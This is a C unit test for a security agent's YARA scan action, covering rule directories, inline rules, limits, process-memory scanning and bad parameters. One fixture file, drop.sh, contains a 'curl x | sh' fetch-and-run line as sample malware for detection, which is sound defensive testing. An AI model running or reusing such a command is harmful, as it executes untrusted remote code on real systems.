/*
 * test_respond_scan.c - the scan action (respond_scan.h) in-process: inline rules and the
 * configured rule directory over a temp tree, limits, bad params and bad rules with reasons.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cmocka.h>
#include <jansson.h>

#include "agent/respond_scan.h"
#include "bannin/error.h"

static char dir[64];
static struct resp_scan *mod;

static void
put(const char *rel, const char *text)
{
    char p[256];
    snprintf(p, sizeof(p), "%s/%s", dir, rel);
    FILE *f = fopen(p, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static int
setup(void **state)
{
    snprintf(dir, sizeof(dir), "/tmp/bn-rscan-XXXXXX");
    assert_non_null(mkdtemp(dir));
    char p[128];
    snprintf(p, sizeof(p), "%s/yara", dir);
    mkdir(p, 0700);
    snprintf(p, sizeof(p), "%s/tree", dir);
    mkdir(p, 0700);
    snprintf(p, sizeof(p), "%s/tree/sub", dir);
    mkdir(p, 0700);
    put("yara/mal.yar", "rule Evil_Dropper : mal { strings: $a = \"EVIL-DROPPER-v1\" "
                        "condition: $a }\n");
    put("yara/broken.yar", "rule { nope\n");
    put("tree/clean.txt", "nothing to see");
    put("tree/sub/drop.sh", "#!/bin/sh\n# EVIL-DROPPER-v1\ncurl x | sh\n");
    put("tree/sub/drop2.sh", "EVIL-DROPPER-v1 again");
    struct respond_paths paths = {.state_dir = dir};
    assert_int_equal(resp_scan_new(&mod, &paths), 0);
    return 0;
}

static int
teardown(void **state)
{
    resp_scan_free(mod);
    pid_t pid = fork();
    if (pid == 0) {
        execlp("rm", "rm", "-rf", "--", dir, (char *)NULL);
        _exit(127);
    }
    waitpid(pid, NULL, 0);
    return 0;
}

static json_t *
call(const char *params, int want_rc)
{
    struct bn_buf out;
    bn_buf_init(&out, 1u << 20);
    int rc = resp_scan(mod, params, strlen(params), &out);
    if (rc != want_rc)
        printf("  rc %d, result %s\n", rc, out.p ? out.p : "");
    assert_int_equal(rc, want_rc);
    json_error_t err;
    json_t *r = json_loadb(out.p, out.len, 0, &err);
    bn_buf_release(&out);
    assert_non_null(r);
    return r;
}

static bool
has_match(json_t *r, const char *rule, const char *suffix)
{
    json_t *m;
    size_t i;
    json_array_foreach(json_object_get(r, "matches"), i, m)
    {
        const char *f = json_string_value(json_object_get(m, "file"));
        const char *ru = json_string_value(json_object_get(m, "rule"));
        size_t fl = f ? strlen(f) : 0, sl = strlen(suffix);
        if (ru && strcmp(ru, rule) == 0 && fl >= sl && strcmp(f + fl - sl, suffix) == 0)
            return true;
    }
    return false;
}

static void
test_configured_rule_dir(void **state)
{
    char params[256];
    snprintf(params, sizeof(params), "{\"paths\":[\"%s/tree\"]}", dir);
    json_t *r = call(params, 0);
    assert_true(json_is_true(json_object_get(r, "ok")));
    assert_int_equal(json_integer_value(json_object_get(r, "rules")), 1);
    assert_int_equal(json_integer_value(json_object_get(r, "rule_files_skipped")), 1);
    assert_int_equal(json_array_size(json_object_get(r, "rule_issues")), 1);
    assert_non_null(strstr(json_string_value(json_array_get(json_object_get(r, "rule_issues"), 0)),
                           "broken.yar:1:"));
    assert_true(has_match(r, "Evil_Dropper", "/tree/sub/drop.sh"));
    assert_true(has_match(r, "Evil_Dropper", "/tree/sub/drop2.sh"));
    assert_int_equal(json_array_size(json_object_get(r, "matches")), 2);
    assert_int_equal(json_integer_value(json_object_get(r, "files_scanned")), 3);
    json_t *m0 = json_array_get(json_object_get(r, "matches"), 0);
    assert_string_equal(json_string_value(json_array_get(json_object_get(m0, "tags"), 0)), "mal");
    assert_string_equal(json_string_value(json_object_get(m0, "namespace")), "mal.yar");
    assert_false(json_is_true(json_object_get(r, "rules_cached")));
    json_decref(r);

    /* same rule files: the compiled set is reused, with the same report */
    r = call(params, 0);
    assert_true(json_is_true(json_object_get(r, "rules_cached")));
    assert_int_equal(json_integer_value(json_object_get(r, "rule_files_skipped")), 1);
    assert_int_equal(json_array_size(json_object_get(r, "rule_issues")), 1);
    assert_int_equal(json_array_size(json_object_get(r, "matches")), 2);
    json_decref(r);

    /* a rule file changes: compiled again, the new rule applies */
    put("yara/more.yar", "rule Clean_Text { strings: $a = \"nothing to see\" condition: $a }\n");
    r = call(params, 0);
    assert_false(json_is_true(json_object_get(r, "rules_cached")));
    assert_int_equal(json_integer_value(json_object_get(r, "rules")), 2);
    assert_true(has_match(r, "Clean_Text", "/tree/clean.txt"));
    assert_int_equal(json_array_size(json_object_get(r, "matches")), 3);
    json_decref(r);
    char p2[128];
    snprintf(p2, sizeof(p2), "%s/yara/more.yar", dir);
    unlink(p2);
}

static void
test_inline_rules_and_limits(void **state)
{
    char params[512];
    snprintf(params, sizeof(params),
             "{\"paths\":[\"%s/tree\"],\"rules\":\"rule Sh { strings: $s = \\\"#!/bin/sh\\\" "
             "condition: $s at 0 }\\nrule Any { condition: filesize > 0 }\","
             "\"max_matches\":2}",
             dir);
    json_t *r = call(params, 0);
    assert_true(json_is_true(json_object_get(r, "ok")));
    assert_string_equal(json_string_value(json_object_get(r, "rule_source")), "inline");
    assert_int_equal(json_array_size(json_object_get(r, "matches")), 2);
    assert_int_equal(json_integer_value(json_object_get(r, "matches_dropped")), 2);
    json_decref(r);

    snprintf(params, sizeof(params),
             "{\"paths\":[\"%s/tree\"],\"rules\":\"rule Any { condition: true }\","
             "\"max_files\":1,\"max_size\":5}",
             dir);
    r = call(params, 0);
    assert_true(json_integer_value(json_object_get(r, "skipped_size")) >= 1);
    assert_true(json_integer_value(json_object_get(r, "files_scanned")) <= 1);
    json_decref(r);
}

/* process memory: a shell (not this ASan-instrumented binary, whose shadow mappings are
 * terabytes) holding a marker in a variable; it says "r" on the pipe once it runs */
static void
test_pid_scan(void **state)
{
    int pfd[2];
    assert_int_equal(pipe(pfd), 0);
    pid_t child = fork();
    assert_true(child >= 0);
    if (child == 0) {
        close(pfd[0]);
        dup2(pfd[1], 1);
        setpgid(0, 0);
        execl("/bin/sh", "sh", "-c", "m=BANNIN-MEMORY-; m=${m}MARKER-4711; echo r; sleep 20",
              (char *)NULL);
        _exit(127);
    }
    close(pfd[1]);
    char c;
    assert_int_equal(read(pfd[0], &c, 1), 1);
    close(pfd[0]);
    char params[512];
    snprintf(params, sizeof(params),
             "{\"pids\":[%d, 4194303],\"timeout\":10,\"rules\":\"rule Mem { strings: $m = "
             "\\\"BANNIN-MEMORY-MARKER-4711\\\" condition: $m }\"}",
             (int)child);
    json_t *r = call(params, 0);
    kill(-child, SIGKILL); /* the shell and its sleep */
    waitpid(child, NULL, 0);
    assert_true(json_is_true(json_object_get(r, "ok")));
    assert_int_equal(json_integer_value(json_object_get(r, "processes_scanned")), 1);
    assert_int_equal(json_integer_value(json_object_get(r, "processes_matched")), 1);
    assert_int_equal(json_integer_value(json_object_get(r, "process_errors")), 1);
    json_t *m0 = json_array_get(json_object_get(r, "matches"), 0);
    assert_string_equal(json_string_value(json_object_get(m0, "rule")), "Mem");
    assert_int_equal(json_integer_value(json_object_get(m0, "pid")), child);
    json_t *e0 = json_array_get(json_object_get(r, "error_files"), 0);
    assert_string_equal(json_string_value(json_object_get(e0, "file")), "pid:4194303");
    assert_string_equal(json_string_value(json_object_get(e0, "reason")), "no such process");
    json_decref(r);
}

static void
test_bad_params(void **state)
{
    json_t *r = call("{\"paths\":[]}", BN_EINVAL);
    assert_true(json_is_false(json_object_get(r, "ok")));
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")), "paths"));
    json_decref(r);
    r = call("{\"paths\":[\"relative/x\"]}", BN_EINVAL);
    json_decref(r);
    r = call("[1,2]", BN_EINVAL);
    json_decref(r);
    r = call("{\"paths\":[\"/tmp\"],\"timeout\":0}", BN_EINVAL);
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")), "timeout"));
    json_decref(r);
    /* inline rules that do not compile: bad params, with the compiler's reason */
    r = call("{\"paths\":[\"/tmp\"],\"rules\":\"rule x { condition: nope }\"}", BN_EINVAL);
    assert_true(json_is_false(json_object_get(r, "ok")));
    const char *issue = json_string_value(json_array_get(json_object_get(r, "rule_issues"), 0));
    assert_non_null(issue);
    assert_non_null(strstr(issue, "inline:1: undefined identifier \"nope\""));
    json_decref(r);
    /* a rule dir that does not exist: the action ran and says why */
    r = call("{\"paths\":[\"/tmp\"],\"rule_dir\":\"/nonexistent/bannin-rules\"}", 0);
    assert_true(json_is_false(json_object_get(r, "ok")));
    assert_string_equal(json_string_value(json_object_get(r, "error")), "rule source not found");
    json_decref(r);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_configured_rule_dir),
        cmocka_unit_test(test_inline_rules_and_limits),
        cmocka_unit_test(test_pid_scan),
        cmocka_unit_test(test_bad_params),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
